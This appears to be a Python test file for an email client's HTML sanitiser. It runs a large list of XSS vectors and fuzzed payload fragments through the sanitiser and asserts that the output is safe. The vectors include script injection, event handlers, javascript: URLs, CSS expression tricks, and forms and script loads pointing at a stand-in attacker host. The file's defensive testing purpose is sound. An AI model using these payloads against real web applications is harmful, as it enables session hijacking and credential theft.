"""The message-HTML sanitiser against a battery of XSS vectors, plus properties under fuzzing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailhaven.web.sanitize import (
    PLACEHOLDER_IMAGE,
    sanitize_css_declarations,
    sanitize_html,
    sanitize_stylesheet,
    url_scheme,
)

SAFE_TAGS = {
    "a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br",
    "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div",
    "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6",
    "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark", "nav", "ol", "p", "pre", "q",
    "s", "samp", "section", "small", "span", "strike", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr", "style",
}
DANGER = re.compile(r"javascript:|vbscript:|expression\s*\(|@import|-moz-binding|behavior\s*:", re.I)


class _Audit(HTMLParser):
    """Re-parse sanitiser output the way a browser would and record what it contains."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []
        self.style_text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._in_style = tag == "style"
        for k, v in attrs:
            self.attrs.append((tag, k, v or ""))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style_text.append(data)


def audit(out: str) -> _Audit:
    a = _Audit()
    a.feed(out)
    a.close()
    assert set(a.tags) <= SAFE_TAGS, a.tags
    for tag, name, value in a.attrs:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"srcset", "formaction", "action", "xmlns", "id", "name", "http-equiv"}
        if name in ("href", "src", "background", "style"):
            assert not DANGER.search(value), (tag, name, value)
        if name == "href":
            assert url_scheme(value) in {"http", "https", "mailto"}
        if name == "src":
            assert url_scheme(value) in {"data", "http", "https"}
            if url_scheme(value) == "data":
                assert value.lower().startswith("data:image/")
    for css in a.style_text:
        assert not DANGER.search(css)
        assert "<" not in css
    return a


XSS_VECTORS = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\" \x01javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example/\"><input name=pw type=password><button>Go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<base href=\"https://evil.example/\">",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"width: e\\78pression(alert(1))\">x</div>",
    "<div style=\"width: exp/**/ression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background:url('https://evil.example/track.gif')\">x</div>",
    "<div style=\"behavior: url(x.htc)\">x</div>",
    "<div style=\"-moz-binding: url(x.xml#xss)\">x</div>",
    "<div style=\"background-image: image-set('https://evil.example/a.png' 1x)\">x</div>",
    "<style>@import 'https://evil.example/x.css'; body{color:red}</style>",
    "<style>body{background:url(https://evil.example/t.gif)} p{width:expression(alert(1))}</style>",
    "<style></style><script>alert(1)</script><style>",
    "<style>p{color:red}</style ><img src=x onerror=alert(1)>",
    "<style>a{}</style></p><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=\"x\" srcset=\"javascript:alert(1) 1x\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<div id=x name=y onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
    "<p title='a\"b' class=\"c'd\">x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src=`x`onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<a href=\"https://ok.example/\"<script>alert(1)</script>",
    "<p>unclosed <b>bold <i>italic",
    "<div style=\"color:red;background:u\\rl(https://evil.example/x)\">x</div>",
    "<div style=\"color: red; x: \\65 xpression(alert(1))\">x</div>",
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_is_neutralised(vector: str) -> None:
    out = sanitize_html(vector).html
    audit(out)
    assert "<script" not in out.lower()
    assert "alert(1)</script" not in out
    # Sanitising is stable: the output passes through unchanged in meaning.
    assert sanitize_html(out).html == out


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_is_neutralised_with_remote_allowed(vector: str) -> None:
    out = sanitize_html(vector, allow_remote=True).html
    audit(out)
    assert "<script" not in out.lower()


def test_all_vectors_together() -> None:
    doc = "".join(XSS_VECTORS)
    audit(sanitize_html(doc).html)
    # An unclosed dropped element (the <math> vector) swallows the rest: nothing after leaks.
    assert "trailing" not in sanitize_html(doc + "<p>trailing</p>").html
    balanced = "<svg><script>alert(1)</script></svg><p>trailing</p>"
    assert sanitize_html(balanced).html == "<p>trailing</p>"


def test_remote_images_become_placeholders() -> None:
    result = sanitize_html('<p>hi<img src="https://tracker.example/p.gif" alt="logo" width=1></p>')
    assert result.remote_images == 1
    assert f'src="{PLACEHOLDER_IMAGE}"' in result.html
    assert 'data-mh-src="https://tracker.example/p.gif"' in result.html
    assert 'alt="logo"' in result.html
    allowed = sanitize_html('<img src="https://tracker.example/p.gif">', allow_remote=True)
    assert allowed.remote_images == 0
    assert 'src="https://tracker.example/p.gif"' in allowed.html


def test_links_open_in_new_context_without_opener() -> None:
    out = sanitize_html('<a href="https://example.org/x?a=1&amp;b=2" target="_self">x</a>').html
    assert out == ('<a href="https://example.org/x?a=1&amp;b=2" target="_blank" '
                   'rel="noopener noreferrer">x</a>')
    assert 'href="mailto:bob@example.org"' in sanitize_html('<a href="mailto:bob@example.org">b</a>').html
    assert "href" not in sanitize_html('<a href="/relative">r</a>').html


def test_formatting_and_tables_survive() -> None:
    src = ('<html><head><title>T</title><style>p { color: #333; }</style></head>'
           '<body bgcolor="#fff"><table border=0 cellpadding="2"><tr><td style="color: red; '
           'font-weight: bold" align=center>cell</td></tr></table><p>a &lt;b&gt; &amp; c</p>'
           '<ul><li>one<li>two</ul></body></html>')
    out = sanitize_html(src).html
    assert "<style>p { color: #333; }</style>" in out
    assert '<div bgcolor="#fff">' in out
    assert '<td style="color: red; font-weight: bold" align="center">cell</td>' in out
    assert "<p>a &lt;b&gt; &amp; c</p>" in out
    assert "T" not in out.replace("<table", "").replace("</table", "")  # the title is dropped
    audit(out)


def test_form_text_kept_controls_dropped() -> None:
    out = sanitize_html("<form action='https://evil.example'><p>Enter your password</p>"
                        "<input type=password name=pw><button>Log in</button></form>").html
    assert out == "<p>Enter your password</p>"


def test_cid_images_use_given_data_urls() -> None:
    data = "data:image/png;base64,iVBORw0KGgo="
    out = sanitize_html('<img src="cid:logo@x">', cid_urls={"logo@x": data}).html
    assert out == f'<img src="{data}">'
    assert sanitize_html('<img src="cid:other">', cid_urls={"logo@x": data}).html == "<img>"
    assert "src" not in sanitize_html('<img src="cid:x">', cid_urls={"x": "https://evil/"}).html


def test_css_helpers() -> None:
    assert sanitize_css_declarations("color: red; width: expression(alert(1))") == "color: red"
    assert sanitize_css_declarations("background: url(https://e.example/x.png)") == "background: none"
    assert (sanitize_css_declarations("background: url(https://e.example/x.png)", allow_remote=True)
            == 'background: url("https://e.example/x.png")')
    assert sanitize_css_declarations("COLOR: Blue") == "color: Blue"
    sheet = sanitize_stylesheet("a{color:red}</style><script>alert(1)</script>")
    assert "<" not in sheet and "</style" not in sheet


def test_url_scheme() -> None:
    assert url_scheme("https://x") == "https"
    assert url_scheme(" JAVA\nSCRIPT:alert(1)") == "javascript"
    assert url_scheme("relative/path") is None
    assert url_scheme("//host/x") is None


_tokens = st.sampled_from([
    "<script>", "</script>", "<style>", "</style>", "<img src=x onerror=alert(1)>", "<a href='",
    "javascript:", "'>", "<p>", "</p>", "<div style='", "expression(", ")'>", "<!--", "-->",
    "<svg>", "</svg>", "<iframe>", "\"", "'", "<", ">", "&", "&#106;", "text", " ", "<b>",
    "</b>", "<table><tr><td>", "url(", "https://evil.example/x", "<noscript>", "</noscript>",
    "<![CDATA[", "]]>", "<meta http-equiv=refresh content=0>", "<body onload=x>", "=",
])


@settings(max_examples=400, deadline=None)
@given(st.lists(_tokens, max_size=40))
def test_fuzz_output_is_always_safe(parts: list[str]) -> None:
    source = "".join(parts)
    for allow in (False, True):
        out = sanitize_html(source, allow_remote=allow).html
        audit(out)
        assert "<script" not in out.lower()


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_fuzz_any_text_never_raises(text: str) -> None:
    audit(sanitize_html(text).html)


def test_corpus_html_parts_sanitise_safely() -> None:
    """Every HTML part of the real-world corpus comes out safe and keeps its text."""
    from email import policy
    from email.parser import BytesParser

    from conftest import corpus_messages, require_corpus
    from mailhaven.message.html import html_to_text

    require_corpus()
    seen = 0
    for name, raw in corpus_messages():
        try:
            msg = BytesParser(policy=policy.compat32).parsebytes(raw)
            parts = [p for p in msg.walk() if p.get_content_type() == "text/html"]
        except Exception:  # noqa: BLE001 - malformed corpus messages are not our subject here
            continue
        for part in parts:
            payload = part.get_payload(decode=True)
            if not isinstance(payload, bytes):
                continue
            try:
                source = payload.decode(part.get_content_charset() or "utf-8", errors="replace")
            except LookupError:
                source = payload.decode("utf-8", errors="replace")
            out = sanitize_html(source).html
            audit(out)
            seen += 1
            # Visible text survives (compare a few words of the readable text), unless the
            # document has elements whose text is dropped on purpose.
            if re.search(r"<(button|select|textarea|svg|math|noscript|template|object|iframe|xmp|plaintext)\b",
                         source, re.I):
                continue
            words = [w for w in html_to_text(source).split() if w.isalpha() and len(w) > 4][:5]
            text = html_to_text(out)
            assert all(w in text for w in words), (name, words)
    assert seen > 0


@pytest.mark.parametrize("doc", [
    "<style>body{background:url(https://evil.example/t.gif</style><p>x</p>",
    "<style>body{background:url('https://evil.example/t.gif</style>",
    "<style>p{background:url(data:image/png;base64,AAAA)} body{background:URL( https://evil.example/t</style>",
    "<div style=\"background:url(https://evil.example/t.gif\">x</div>",
    "<div style=\"background:url(data:image/gif;base64,R0lG), url(https://evil.example/t.gif\">x</div>",
])
def test_unterminated_css_url_fetches_nothing(doc: str) -> None:
    # CSS Syntax 4.3.6: a url( with no closing parenthesis runs to the end and is fetched.
    for allow in (False, True):
        out = sanitize_html(doc, allow_remote=allow).html
        targets = re.findall(r"url\s*\((.{0,8})", out, re.I)
        assert all(t.startswith('"data:') or (allow and t.startswith('"https:')) for t in targets), out
        assert sanitize_html(out, allow_remote=allow).html == out
